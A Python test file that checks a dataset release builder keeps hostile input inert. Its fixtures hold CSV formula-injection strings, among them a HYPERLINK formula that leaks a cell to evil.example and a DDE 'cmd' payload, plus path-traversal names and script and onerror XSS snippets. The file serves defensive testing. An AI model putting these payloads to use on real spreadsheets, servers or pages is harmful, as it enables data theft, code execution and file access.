"""Output safety: hostile names, sidecars and text stay inert data. Nothing is written outside
dist/, raw/ is never touched, CSV cells that a spreadsheet would run are escaped while Parquet keeps
the true values, and HTML/script in documents is carried verbatim as text. See docs/GUARANTEES.md."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from hotspots.release import verify_release
from hotspots.release.write import CSV_ESCAPE_FIRST, unescape_text
from tests.conftest import write_doc
from tests.reliability_support import good_corpus, run_build, snapshot

HOSTILE_LINES = [
    "=1+1 Shenzhen has 7 unicorns.",
    "+ Hefei is home to more than 20 universities.",
    "- Wuhan has 12 state key laboratories.",
    "@SUM(A1) Beijing has 90 unicorns.",
    "<script>alert('x')</script> Shanghai has 8 unicorns.",
]
HOSTILE_META = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click") <img src=x onerror=alert(1)>',
    "url": "https://example.org/../../../etc/passwd?<script>",
    "publisher": "../../outside",
    "published": "2024",
    "retrieved": "2025-01-02",
    "license": "@SUM(1+1) ../../dist/evil",
}
HOSTILE_NAMES = [
    "..%2f..%2fx",
    "..\\..\\evil",
    "..",
    "=cmd|' -C calc'!A0",
    "-rf",
    "@x",
    "+x",
    "Zürich – 北京 ❤",
]


def _hostile_corpus(raw):
    good_corpus(raw)
    for i, name in enumerate(HOSTILE_NAMES):
        lines = [*HOSTILE_LINES, f"Document number {i}."]
        write_doc(
            raw,
            name,
            "\n".join(lines) + "\n",
            HOSTILE_META if i == 0 else {**HOSTILE_META, "title": f"{HOSTILE_META['title']} {i}"},
        )


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """A build of a hostile corpus, run from inside the work folder with relative paths."""
    root = tmp_path_factory.mktemp("hostile")
    work = root / "work"
    _hostile_corpus(work / "raw")
    (root / "sentinel").mkdir()
    before = snapshot(root)
    cwd = os.getcwd()
    os.chdir(work)  # relative paths, as the CLI gets them
    try:
        report = run_build(Path("raw"), Path("dist"))
    finally:
        os.chdir(cwd)
    return root, before, report


def _csv(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_hostile_corpus_builds_and_every_document_is_kept(hostile_build):
    root, _, report = hostile_build
    assert report["status"] == "published" and report["quarantined"] == []
    assert report["documents_valid"] == 2 + len(HOSTILE_NAMES)
    assert verify_release(root / "work" / "dist" / report["release"]["version"]) == []


def test_nothing_is_written_outside_dist_and_raw_is_untouched(hostile_build):
    root, before, _ = hostile_build
    after = snapshot(root)
    changed = {path for path in set(before) | set(after) if before.get(path) != after.get(path)}
    assert changed and all(path.startswith("work/dist") for path in changed), sorted(changed)
    assert {p: v for p, v in after.items() if p.startswith("work/raw")} == {
        p: v for p, v in before.items() if p.startswith("work/raw")
    }


def test_csv_escapes_formula_cells_and_parquet_keeps_true_values(hostile_build):
    root, _, report = hostile_build
    data = root / "work" / "dist" / report["release"]["version"] / "data"
    for table in ("documents", "claims", "mentions", "facts", "conflicts", "entities", "aliases"):
        if not (data / f"{table}.csv").exists():
            continue
        rows = _csv(data / f"{table}.csv")
        parquet = pq.read_table(data / f"{table}.parquet").to_pylist()
        assert len(rows) == len(parquet)
        for row, true in zip(rows, parquet, strict=True):
            for column, value in true.items():
                if not isinstance(value, str):
                    continue
                cell = row[column]
                assert not cell.startswith(CSV_ESCAPE_FIRST[:-1]), (table, column, cell)
                assert unescape_text(cell) == value
    documents = {r["name"]: r for r in pq.read_table(data / "documents.parquet").to_pylist()}
    assert set(HOSTILE_NAMES) <= set(documents)  # names kept as data, exactly
    assert documents["..%2f..%2fx"]["title"] == HOSTILE_META["title"]
    csv_docs = {unescape_text(r["name"]): r for r in _csv(data / "documents.csv")}
    assert csv_docs["=cmd|' -C calc'!A0"]["name"] == "'=cmd|' -C calc'!A0"
    assert csv_docs["..%2f..%2fx"]["title"] == "'" + HOSTILE_META["title"]
    assert csv_docs["-rf"]["license"] == "'" + HOSTILE_META["license"]
    quotes = {r["quote"] for r in pq.read_table(data / "claims.parquet").to_pylist()}
    csv_quotes = {r["quote"] for r in _csv(data / "claims.csv")}
    for line in HOSTILE_LINES:
        assert line in quotes, line
        assert (("'" + line) if line.startswith(CSV_ESCAPE_FIRST) else line) in csv_quotes


def test_html_and_script_stay_verbatim_inert_text(hostile_build):
    root, _, report = hostile_build
    release = root / "work" / "dist" / report["release"]["version"]
    claims = pq.read_table(release / "data" / "claims.parquet").to_pylist()
    script = [c for c in claims if c["quote"].startswith("<script>")]
    assert script and all(c["quote"] == HOSTILE_LINES[4] for c in script)
    assert HOSTILE_LINES[4] in (release / "data" / "claims.csv").read_text(encoding="utf-8")
    documents = json.loads((release / "datapackage.json").read_text(encoding="utf-8"))
    assert documents  # metadata still parses as JSON with hostile titles in it


def test_run_report_names_are_data_not_paths(hostile_build):
    root, _, report = hostile_build
    reports = list((root / "work" / "dist" / "reports").iterdir())
    # the report and, beside it, the resolve stage's review files (discovered entities, alias
    # proposals): all named by the run
    run_id = report["run_id"]
    assert sorted(p.name for p in reports) == [
        f"{run_id}.discovered.csv",
        f"{run_id}.json",
        f"{run_id}.proposals.csv",
    ]
    assert report["run_id"].replace("-", "").isalnum()
